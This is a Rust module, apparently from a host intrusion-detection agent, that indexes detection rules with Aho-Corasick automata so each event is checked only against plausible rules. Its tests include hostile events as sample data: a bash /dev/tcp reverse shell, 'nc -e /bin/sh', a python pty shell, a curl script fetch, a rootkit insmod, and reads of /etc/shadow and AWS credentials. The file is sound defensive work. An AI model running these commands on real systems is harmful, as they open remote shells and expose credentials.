//! A policy set's rules compiled into one pre-filter per event type, so that what an event
//! costs hardly grows with the number of rules. Most rules name literals an event must
//! contain (`*/curl`, `*/dev/tcp/*`, `/etc/shadow`): each such rule contributes, for its most
//! selective field, one required literal per pattern, and the literals of every rule of a
//! type go into one Aho-Corasick automaton per field. An event is scanned once per field
//! (exe, comm, the joined argv, parent exe, path), and only the rules whose literals occur
//! in it — plus the few with no literal to require — run their full conditions. A rule
//! that matches always contains one of its literals, so the index never hides a match.

use aho_corasick::{AhoCorasick, AhoCorasickKind, MatchKind};

use super::{matcher::Field, vocab::EventType, Policy, Rule, Subject};

/// A rule type's place in `RuleIndex::types`: its kind's, so the few kinds no rule names
/// (fork, exit, agent health) keep an empty slot.
fn type_slot(t: EventType) -> usize {
    t.index()
}

/// Candidate bits kept on the stack for up to this many rules of one type.
const INLINE_WORDS: usize = 8;

#[derive(Debug, Default)]
pub struct RuleIndex {
    types: [TypeIndex; EventType::ALL.len()],
}

#[derive(Debug, Default)]
struct TypeIndex {
    /// (policy, rule) positions of every rule of this type, in set order.
    rules: Vec<(u32, u32)>,
    /// Rules (positions in `rules`) with nothing to require: always evaluated.
    always: Vec<u32>,
    scans: Vec<Scan>,
}

/// The part of an event one automaton reads.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Haystack {
    Exe,
    Comm,
    /// argv joined by spaces: holds every argument and the command line.
    Args,
    ParentExe,
    Path,
}

impl Haystack {
    fn of(field: Field) -> Option<Haystack> {
        Some(match field {
            Field::Exe => Haystack::Exe,
            Field::Comm => Haystack::Comm,
            Field::Argv | Field::Cmdline => Haystack::Args,
            Field::ParentExe => Haystack::ParentExe,
            Field::Path => Haystack::Path,
            _ => return None,
        })
    }

    fn text<'a>(self, s: &Subject<'a>) -> Option<&'a str> {
        match self {
            Haystack::Exe => s.exe,
            Haystack::Comm => Some(s.comm),
            Haystack::Args => Some(s.argv.joined()),
            Haystack::ParentExe => s.parent_exe,
            Haystack::Path => s.path,
        }
    }
}

/// A haystack's literals while the index is built, and the rules each one stands for.
type Pending = (Haystack, Vec<String>, Vec<Vec<u32>>);

#[derive(Debug)]
struct Scan {
    haystack: Haystack,
    automaton: AhoCorasick,
    /// Per literal of the automaton: the rules (positions in `rules`) it makes candidates.
    rules_of: Vec<Vec<u32>>,
}

impl RuleIndex {
    pub fn build(policies: &[Policy]) -> RuleIndex {
        let mut index = RuleIndex::default();
        // Per type and haystack: literal → rules that require it.
        let mut pending: Vec<Vec<Pending>> =
            (0..EventType::ALL.len()).map(|_| Vec::new()).collect();
        for (pi, policy) in policies.iter().enumerate() {
            for (ri, rule) in policy.rules.iter().enumerate() {
                let slot = type_slot(rule.event);
                let t = &mut index.types[slot];
                let pos = t.rules.len() as u32;
                t.rules.push((pi as u32, ri as u32));
                let required = rule
                    .conditions
                    .required_literals()
                    .and_then(|(f, lits)| Some((Haystack::of(f)?, lits)));
                let Some((hay, lits)) = required else {
                    t.always.push(pos);
                    continue;
                };
                let groups = &mut pending[slot];
                let group = match groups.iter().position(|(h, _, _)| *h == hay) {
                    Some(i) => &mut groups[i],
                    None => {
                        groups.push((hay, Vec::new(), Vec::new()));
                        groups.last_mut().expect("just pushed")
                    }
                };
                for lit in lits {
                    let id = match group.1.iter().position(|l| l == lit) {
                        Some(id) => id,
                        None => {
                            group.1.push(lit.to_string());
                            group.2.push(Vec::new());
                            group.1.len() - 1
                        }
                    };
                    if !group.2[id].contains(&pos) {
                        group.2[id].push(pos);
                    }
                }
            }
        }
        for (slot, groups) in pending.into_iter().enumerate() {
            let t = &mut index.types[slot];
            for (haystack, literals, rules_of) in groups {
                match AhoCorasick::builder()
                    .match_kind(MatchKind::Standard)
                    .kind(Some(AhoCorasickKind::DFA))
                    .build(&literals)
                    .or_else(|_| AhoCorasick::builder().build(&literals))
                {
                    Ok(automaton) => t.scans.push(Scan {
                        haystack,
                        automaton,
                        rules_of,
                    }),
                    Err(e) => {
                        // Never lose a rule to the pre-filter: evaluate them all instead.
                        tracing::warn!(error = %e, "rule index automaton not built; its rules run unfiltered");
                        t.always.extend(rules_of.into_iter().flatten());
                    }
                }
            }
            t.always.sort_unstable();
            t.always.dedup();
        }
        index
    }

    /// Whether the set has any rule for events of this type.
    pub fn has(&self, event: EventType) -> bool {
        !self.types[type_slot(event)].rules.is_empty()
    }

    /// Calls `visit` with every rule of `s.event`'s type that may match `s`, in set order,
    /// with its policy and the policy's position in `policies`: the rules whose required
    /// literals occur in the event and the ones that require none. `visit` still has to
    /// check the policy's selector and the rule's conditions.
    pub fn for_each_candidate<'p>(
        &self,
        policies: &'p [Policy],
        s: &Subject,
        mut visit: impl FnMut(usize, &'p Policy, &'p Rule),
    ) {
        let t = &self.types[type_slot(s.event)];
        if t.rules.is_empty() {
            return;
        }
        let words = t.rules.len().div_ceil(64);
        let mut inline = [0u64; INLINE_WORDS];
        let mut spill = Vec::new();
        let bits: &mut [u64] = if words <= INLINE_WORDS {
            &mut inline[..words]
        } else {
            spill.resize(words, 0u64);
            &mut spill
        };
        let mut set = |pos: u32| bits[pos as usize / 64] |= 1 << (pos % 64);
        for &pos in &t.always {
            set(pos);
        }
        for scan in &t.scans {
            // A rename's or link's new name is a path too (`path` matches either).
            let second = (scan.haystack == Haystack::Path)
                .then_some(s.path2)
                .flatten();
            for text in [scan.haystack.text(s), second].into_iter().flatten() {
                // Most events contain none of the literals: one cheap search says so, and
                // only a hit pays for the overlapping walk that finds every literal present.
                if !scan.automaton.is_match(text) {
                    continue;
                }
                for m in scan.automaton.find_overlapping_iter(text) {
                    for &pos in &scan.rules_of[m.pattern().as_usize()] {
                        set(pos);
                    }
                }
            }
        }
        for (w, &word) in bits.iter().enumerate() {
            let mut word = word;
            while word != 0 {
                let pos = w * 64 + word.trailing_zeros() as usize;
                word &= word - 1;
                let (pi, ri) = t.rules[pos];
                if let Some(policy) = policies.get(pi as usize) {
                    if let Some(rule) = policy.rules.get(ri as usize) {
                        visit(pi as usize, policy, rule);
                    }
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::events::{Access, Argv};

    fn subject<'a>(
        event: EventType,
        exe: &'a str,
        argv: &'a Argv,
        path: Option<&'a str>,
    ) -> Subject<'a> {
        Subject {
            exe: Some(exe),
            comm: exe.rsplit('/').next().unwrap_or(exe),
            uid: 1000,
            parent_exe: Some("/usr/bin/bash"),
            cgroup: Some("/user.slice"),
            path,
            access: Access::READ | Access::WRITE,
            ..Subject::of(event, argv)
        }
    }

    /// The index is an optimisation only: on the default rules, for a spread of benign and
    /// hostile events, the rules it finds matching are exactly those a full scan finds.
    #[test]
    fn the_index_finds_what_a_full_scan_finds() {
        let policies = crate::policy::default_policies().expect("defaults parse");
        let index = RuleIndex::build(&policies);
        let cases: Vec<(EventType, &str, Vec<&str>, Option<&str>)> = vec![
            (EventType::Exec, "/usr/bin/git", vec!["git", "log"], None),
            (
                EventType::Exec,
                "/usr/bin/bash",
                vec!["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
                None,
            ),
            (
                EventType::Exec,
                "/usr/bin/curl",
                vec!["curl", "-s", "http://x/y.sh"],
                None,
            ),
            (EventType::Exec, "/tmp/x/payload", vec!["./payload"], None),
            (
                EventType::Exec,
                "/usr/bin/nc",
                vec!["nc", "-e", "/bin/sh", "10.0.0.1", "9"],
                None,
            ),
            (
                EventType::Exec,
                "/usr/bin/python3.11",
                vec!["python3", "-c", "import pty;pty.spawn('/bin/sh')"],
                None,
            ),
            (
                EventType::Exec,
                "/usr/sbin/insmod",
                vec!["insmod", "rootkit.ko"],
                None,
            ),
            (
                EventType::FileOpen,
                "/usr/bin/cat",
                vec!["cat"],
                Some("/etc/shadow"),
            ),
            (
                EventType::FileOpen,
                "/usr/bin/vim",
                vec!["vim"],
                Some("/root/.bashrc"),
            ),
            (
                EventType::FileOpen,
                "/usr/bin/cat",
                vec!["cat"],
                Some("/home/u/.aws/credentials"),
            ),
            (
                EventType::FileOpen,
                "/usr/bin/cat",
                vec!["cat"],
                Some("/etc/hostname"),
            ),
            (
                EventType::LibraryLoad,
                "/usr/bin/python3",
                vec!["python3"],
                Some("/tmp/evil.so"),
            ),
            (
                EventType::LibraryLoad,
                "/usr/bin/python3",
                vec!["python3"],
                Some("/usr/lib/x86_64-linux-gnu/libm.so.6"),
            ),
        ];
        let mut fired_somewhere = 0;
        for (event, exe, argv, path) in cases {
            let argv = Argv::new(argv);
            let s = subject(event, exe, &argv, path);
            let mut full = Vec::new();
            for p in policies.iter().filter(|p| p.applies_to(&s)) {
                for r in p.rules.iter().filter(|r| r.matches(&s)) {
                    full.push(r.id.clone());
                }
            }
            let mut indexed = Vec::new();
            index.for_each_candidate(&policies, &s, |_, p, r| {
                if p.applies_to(&s) && r.matches(&s) {
                    indexed.push(r.id.clone());
                }
            });
            assert_eq!(indexed, full, "{event:?} {exe} {argv:?} {path:?}");
            fired_somewhere += usize::from(!full.is_empty());
        }
        assert!(
            fired_somewhere >= 8,
            "the cases exercise real matches ({fired_somewhere})"
        );
    }

    /// Most default rules are reached through a literal, not evaluated on every event.
    #[test]
    fn most_default_rules_are_indexed() {
        let policies = crate::policy::default_policies().expect("defaults parse");
        let index = RuleIndex::build(&policies);
        let exec = &index.types[type_slot(EventType::Exec)];
        assert!(
            exec.always.len() * 5 <= exec.rules.len(),
            "{} of {} exec rules unindexed",
            exec.always.len(),
            exec.rules.len()
        );
    }
}
